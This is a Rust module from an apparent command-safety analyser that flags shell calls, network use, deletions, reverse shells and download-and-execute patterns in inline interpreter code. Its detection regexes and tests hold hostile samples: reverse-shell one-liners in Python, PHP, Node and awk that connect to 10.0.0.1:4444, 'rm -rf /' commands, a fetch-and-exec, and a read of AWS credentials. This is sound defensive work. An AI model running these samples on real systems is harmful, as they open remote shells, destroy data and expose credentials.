//! Inline interpreter code in the languages [`crate::inline`] does not parse (`php -r`, an
//! awk program, PowerShell, Lua, …): what it shows of its intent, read by pattern. (Python,
//! JavaScript, Perl and Ruby are parsed there; this module still supplies the data-store
//! deletions, `dropDatabase` and the like, that those readers do not model.)
//!
//! Code in a general-purpose language cannot be analysed exhaustively, so any inline code
//! is already `exec.arbitrary`. This module adds what is visible: shell commands it hands to
//! `os.system`/`subprocess`/`execSync`/`system`/backticks (extracted and analysed as shell),
//! network use and URLs, file deletion APIs, path literals it reads, and the shapes of a
//! reverse shell (a socket plus a process bound to it) or of decoded or downloaded code
//! being executed.

use std::sync::LazyLock;

use regex::Regex;

/// What a piece of inline code shows.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct CodeFacts {
    /// Shell command lines the code runs.
    pub shell: Vec<String>,
    /// URLs and `host:port` pairs it names.
    pub destinations: Vec<String>,
    /// Absolute or home-relative path literals.
    pub paths: Vec<String>,
    /// It uses a network API.
    pub network: bool,
    /// File-deletion APIs it calls.
    pub deletes: Vec<String>,
    /// A socket bound to a process: reverse or bind shell.
    pub reverse_shell: bool,
    /// Decoded text is executed.
    pub decode_exec: bool,
    /// Downloaded text is executed.
    pub fetch_exec: bool,
}

/// Command strings taken from one piece of code; more is reported, not silently dropped.
pub(crate) const MAX_SHELL: usize = 64;

/// The language of inline code, as far as command extraction cares.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Lang {
    /// Python: `exec` runs Python, only `os.system`/`subprocess` run commands.
    Python,
    /// JavaScript: backticks are template strings.
    Node,
    /// Perl, Ruby, PHP: backticks run commands.
    Backticks,
    /// awk, PowerShell and the rest.
    Other,
}

const QUOTED: &str = r#"\s*\(?\s*(?: \[ (?P<list>[^\]]*) \] | (?P<dq>"(?:[^"\\]|\\.)*") | (?P<sq>'(?:[^'\\]|\\.)*') )"#;

static PY_CALL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(&format!(
        r"(?x)(?:\bos\.system|\bos\.popen|\bos\.exec[lv]p?e?|\bsubprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|\bcommands\.getoutput|\bpty\.spawn){QUOTED}"
    ))
    .ok()
});

static SHELL_CALL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(&format!(
        r"(?x)(?:\bexecSync|\bexecFileSync|\bspawnSync|\bexec|\bspawn|\bsystem|\bshell_exec|\bpassthru|\bpopen|\bproc_open|\bIO\.popen|\bKernel\.system|\bRuntime\.getRuntime\(\)\.exec|\bos\.system|\bsubprocess\.\w+){QUOTED}"
    ))
    .ok()
});

static BACKTICK: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"`([^`]+)`|%x\{([^}]+)\}|qx\{([^}]+)\}").ok());

static STRING: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r#""((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)'"#).ok());

static URL: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r#"(?i)\b(?:https?|ftp|wss?)://[^\s'"<>)`\]]+"#).ok());

static CONNECT: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)(?:connect|create_connection|fsockopen|TCPSocket\.(?:new|open)|TCPClient|PeerAddr\W+|socket\.connect)\s*\(?\s*\(?\s*["']([A-Za-z0-9_.:\-\[\]]+)["']\s*,\s*(\d{1,5})|connect\s*\(\s*(\d{1,5})\s*,\s*["']([A-Za-z0-9_.:\-]+)["']|/inet/(?:tcp|udp)/\d+/([A-Za-z0-9_.\-]+)/(\d{1,5})"#,
    )
    .ok()
});

static NETWORK: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:socket|urllib|urlopen|requests\.(?:get|post|put|delete|patch|head|request|session)|http\.client|httplib|httpx|aiohttp|fetch\s*\(|XMLHttpRequest|net\.(?:connect|Socket|createConnection)|https?\.(?:get|request)|IO::Socket|LWP|Net::HTTP|HTTP::Tiny|fsockopen|stream_socket_client|curl_exec|curl_init|file_get_contents\s*\(\s*.https?:|TCPSocket|UDPSocket|open-uri|URI\.open|smtplib|ftplib|paramiko|WebSocket|axios|Invoke-WebRequest|Invoke-RestMethod|Net\.WebClient|DownloadString|DownloadFile|TCPClient|ztcp)|/inet/(?:tcp|udp)/",
    )
    .ok()
});

static SOCKET: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:socket\.socket|socket\(|create_connection|fsockopen|stream_socket_client|socket_create|TCPSocket|net\.Socket|net\.connect|net\.createConnection|IO::Socket|Socket;|use Socket|TCPClient|ztcp|require\(.socket.\))|/inet/(?:tcp|udp)/",
    )
    .ok()
});

static BIND_PROCESS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)(?:dup2|pty\.spawn|subprocess|os\.system|os\.popen|os\.exec|child_process|\bspawn\s*\(|\bexec\s*[\("]|\bexec\s+["'/]|\bsystem\s*[\("]|\bpopen|passthru|shell_exec|proc_open|fdopen|open\s*\(\s*STD|/bin/(?:ba|z|da)?sh\b|cmd\.exe|Invoke-Expression|\biex\b|\|&\s*getline|\.pipe\s*\(|getline)"#,
    )
    .ok()
});

static DELETE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?:shutil\.rmtree|os\.(?:remove|unlink|rmdir|removedirs)|\.unlink\s*\(|FileUtils\.(?:rm_rf|rm_r|rm_f|rm|remove_dir|remove_entry(?:_secure)?)|fs\.(?:rmSync|rmdirSync|unlinkSync|promises\.rm|rm|rmdir|unlink)\s*\(|rimraf|File::Path|remove_tree|\brmtree\b|\bunlink\s*\(|Remove-Item|\bdeleteIndex\b|\bclearObjects\b|dropDatabase|\.drop\s*\(|deleteMany\s*\(\s*\{\s*\}|\.remove\s*\(\s*\{\s*\}|FLUSHALL|flushall|flushdb)",
    )
    .ok()
});

static DECODE_EXEC: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(?:\b(?:exec|eval|compile|Function|iex|Invoke-Expression)\s*\(?\s*(?:[\w.]+\.)?(?:b64decode|b32decode|a85decode|atob|Buffer\.from|base64_decode|decode_base64|unpack|FromBase64String|decompress|unhexlify|fromhex|loads|gzinflate|str_rot13)|MIME::Base64.*eval|eval.*MIME::Base64)",
    )
    .ok()
});

static FETCH_EXEC: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(?:\b(?:exec|eval|iex|Invoke-Expression)\s*\(?\s*(?:await\s+)?\(?\s*(?:[\w.]+\.)?(?:urlopen|get|fetch|DownloadString|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|file_get_contents|open-uri|URI\.open|LWP::Simple::get|http\.get)|DownloadString\s*\([^)]*\)\s*\|\s*(?:iex|Invoke-Expression)|\|\s*(?:iex|Invoke-Expression)\b)",
    )
    .ok()
});

fn unquote(lit: &str) -> String {
    let inner = &lit[1..lit.len().saturating_sub(1).max(1)];
    let mut out = String::with_capacity(inner.len());
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some(x) => out.push(x),
                None => {}
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Single-quotes a word for a shell command line.
fn shell_quote(w: &str) -> String {
    format!("'{}'", w.replace('\'', r"'\''"))
}

/// Analyses inline code.
pub(crate) fn analyse(code: &str, lang: Lang) -> CodeFacts {
    let mut f = CodeFacts::default();
    let code = if code.len() > 64 * 1024 {
        &code[..floor_boundary(code, 64 * 1024)]
    } else {
        code
    };
    let calls = if lang == Lang::Python {
        &PY_CALL
    } else {
        &SHELL_CALL
    };
    if let Some(re) = calls.as_ref() {
        for c in re.captures_iter(code).take(MAX_SHELL + 1) {
            if let Some(list) = c.name("list") {
                let words: Vec<String> = STRING
                    .as_ref()
                    .map(|s| {
                        s.find_iter(list.as_str())
                            .map(|m| shell_quote(&unquote(m.as_str())))
                            .collect()
                    })
                    .unwrap_or_default();
                if !words.is_empty() {
                    f.shell.push(words.join(" "));
                }
            } else if let Some(m) = c.name("dq").or_else(|| c.name("sq")) {
                f.shell.push(unquote(m.as_str()));
            }
        }
    }
    if lang == Lang::Backticks
        && let Some(re) = BACKTICK.as_ref()
    {
        for c in re.captures_iter(code).take(MAX_SHELL + 1) {
            if let Some(m) = c.get(1).or_else(|| c.get(2)).or_else(|| c.get(3)) {
                f.shell.push(m.as_str().to_string());
            }
        }
    }
    if let Some(re) = URL.as_ref() {
        for m in re.find_iter(code).take(32) {
            let u = m.as_str().trim_end_matches(['.', ',', ';']).to_string();
            if !f.destinations.contains(&u) {
                f.destinations.push(u);
            }
        }
    }
    if let Some(re) = CONNECT.as_ref() {
        for c in re.captures_iter(code).take(8) {
            let hp = match (c.get(1), c.get(2), c.get(3), c.get(4), c.get(5), c.get(6)) {
                (Some(h), Some(p), ..) => format!("{}:{}", h.as_str(), p.as_str()),
                (_, _, Some(p), Some(h), ..) => format!("{}:{}", h.as_str(), p.as_str()),
                (.., Some(h), Some(p)) => format!("{}:{}", h.as_str(), p.as_str()),
                _ => continue,
            };
            if !f.destinations.contains(&hp) {
                f.destinations.push(hp);
            }
        }
    }
    if let Some(re) = STRING.as_ref() {
        for m in re.find_iter(code).take(64) {
            let s = unquote(m.as_str());
            if (s.starts_with('/') || s.starts_with("~/")) && s.len() > 1 && !s.contains(' ') {
                f.paths.push(s);
            }
        }
    }
    let is = |re: &LazyLock<Option<Regex>>| re.as_ref().is_some_and(|r| r.is_match(code));
    f.network = is(&NETWORK) || !f.destinations.is_empty();
    if let Some(re) = DELETE.as_ref() {
        for m in re.find_iter(code).take(8) {
            let d = m.as_str().trim_end_matches(['(', ' ']).to_string();
            if !f.deletes.contains(&d) {
                f.deletes.push(d);
            }
        }
    }
    f.reverse_shell = is(&SOCKET) && is(&BIND_PROCESS);
    f.decode_exec = is(&DECODE_EXEC);
    f.fetch_exec = is(&FETCH_EXEC);
    f
}

/// The deletion APIs code calls, by pattern alone (one regex pass, for the parsed
/// languages' data-store calls).
pub(crate) fn deletes(code: &str) -> Vec<String> {
    let code = &code[..floor_boundary(code, code.len().min(64 * 1024))];
    let mut out: Vec<String> = Vec::new();
    if let Some(re) = DELETE.as_ref() {
        for m in re.find_iter(code).take(8) {
            let d = m.as_str().trim_end_matches(['(', ' ']).to_string();
            if !out.contains(&d) {
                out.push(d);
            }
        }
    }
    out
}

fn floor_boundary(s: &str, mut i: usize) -> usize {
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_pattern_compiles() {
        for re in [
            &PY_CALL,
            &SHELL_CALL,
            &BACKTICK,
            &STRING,
            &URL,
            &CONNECT,
            &NETWORK,
            &SOCKET,
            &BIND_PROCESS,
            &DELETE,
            &DECODE_EXEC,
            &FETCH_EXEC,
        ] {
            assert!(re.is_some());
        }
    }

    #[test]
    fn shell_strings_are_extracted() {
        let f = analyse("import os; os.system('rm -rf /home/user')", Lang::Python);
        assert_eq!(f.shell, ["rm -rf /home/user"]);
        let f = analyse(
            r#"import subprocess; subprocess.run(["rm", "-rf", "/"], check=True)"#,
            Lang::Python,
        );
        assert_eq!(f.shell, ["'rm' '-rf' '/'"]);
        let f = analyse(
            r#"require('child_process').execSync("git reset --hard")"#,
            Lang::Node,
        );
        assert_eq!(f.shell, ["git reset --hard"]);
        let f = analyse("system('rm -rf /tmp/x')", Lang::Backticks);
        assert_eq!(f.shell, ["rm -rf /tmp/x"]);
        assert_eq!(
            analyse("puts `rm -rf /`", Lang::Backticks).shell,
            ["rm -rf /"]
        );
        assert!(
            analyse("console.log(`hi ${x}`)", Lang::Node)
                .shell
                .is_empty()
        );
    }

    #[test]
    fn reverse_shells_and_benign_sockets() {
        let py = r#"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])"#;
        let f = analyse(py, Lang::Python);
        assert!(f.reverse_shell);
        assert!(f.destinations.contains(&"10.0.0.1:4444".to_string()));
        let php = r#"$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");"#;
        assert!(analyse(php, Lang::Backticks).reverse_shell);
        let node = r#"var n=require("net"),c=require("child_process"),s=new n.Socket(),sh=c.spawn("/bin/sh",[]);s.connect(4444,"10.0.0.1",function(){s.pipe(sh.stdin);sh.stdout.pipe(s);});"#;
        let f = analyse(node, Lang::Node);
        assert!(f.reverse_shell);
        assert!(f.destinations.contains(&"10.0.0.1:4444".to_string()));
        let awk = r#"BEGIN{s="/inet/tcp/0/10.0.0.1/4444";while(42){do{printf "shell>" |& s; s |& getline c; if(c){while((c |& getline)>0) print $0 |& s; close(c)}} while(c!="exit") close(s)}}"#;
        assert!(analyse(awk, Lang::Other).reverse_shell);
        assert!(!analyse("import socket; print(socket.gethostname())", Lang::Python).reverse_shell);
    }

    #[test]
    fn other_shapes() {
        assert!(
            analyse(
                "import base64;exec(base64.b64decode('cHJpbnQoMSk='))",
                Lang::Python
            )
            .decode_exec
        );
        assert!(
            analyse(
                "exec(urllib.request.urlopen('http://x.example/a').read())",
                Lang::Python
            )
            .fetch_exec
        );
        assert!(
            analyse("import shutil; shutil.rmtree('/home/user')", Lang::Python)
                .deletes
                .contains(&"shutil.rmtree".to_string())
        );
        let f = analyse("open('/home/u/.aws/credentials').read()", Lang::Python);
        assert_eq!(f.paths, ["/home/u/.aws/credentials"]);
        assert!(
            analyse(
                "import requests; requests.get('https://x.example')",
                Lang::Python
            )
            .network
        );
        assert!(!analyse("print(1+1)", Lang::Python).network);
    }
}
